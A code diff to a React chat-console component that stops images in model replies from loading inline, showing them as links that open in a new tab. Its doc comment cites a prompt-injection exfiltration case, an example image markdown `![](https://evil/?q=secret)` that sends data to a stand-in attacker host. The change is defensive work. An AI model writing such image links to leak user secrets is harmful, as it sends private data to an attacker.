@@ -1,13 +1,12 @@
-import { useState } from 'react';
 import { safeImageUrl } from './safe-url';
 
 /**
- * An image from a reply, shown as a button until the person asks for it. Loading an image is a
- * request to wherever its URL points, so a model tricked into writing `![](https://evil/?q=secret)`
- * must not be able to send anything anywhere on its own.
+ * An image from a reply, shown as a link the person may open in a tab of its own. Loading an image
+ * is a request to wherever its URL points, so a model tricked into writing `![](https://evil/?q=secret)`
+ * must not be able to send anything anywhere on its own; and the console's CSP (`img-src 'self' data:
+ * blob:`) loads no remote image inside the page at all, so nothing in a reply can track who reads it.
  */
 export function DeferredImage({ src, alt }: { src?: string; alt?: string }) {
-  const [isLoaded, setIsLoaded] = useState(false);
   const url = src ? safeImageUrl(src) : undefined;
   const label = alt?.trim() || 'Image';
   if (!url) {
@@ -18,20 +17,18 @@ export function DeferredImage({ src, alt }: { src?: string; alt?: string }) {
     );
   }
   const host = new URL(url).host;
-  if (isLoaded) {
-    return <img className="reply-image" src={url} alt={alt ?? ''} referrerPolicy="no-referrer" />;
-  }
   return (
-    <button
-      type="button"
+    <a
       className="image-placeholder"
-      onClick={() => setIsLoaded(true)}
-      aria-label={`Load image “${label}” from ${host}`}
+      href={url}
+      target="_blank"
+      rel="noopener noreferrer"
+      aria-label={`Open image “${label}” from ${host} in a new tab`}
       title={url}
     >
       <span className="image-placeholder-label">Image: {label}</span>
       <span className="muted">{host}</span>
-      <span className="image-placeholder-action">Load</span>
-    </button>
+      <span className="image-placeholder-action">Open</span>
+    </a>
   );
 }
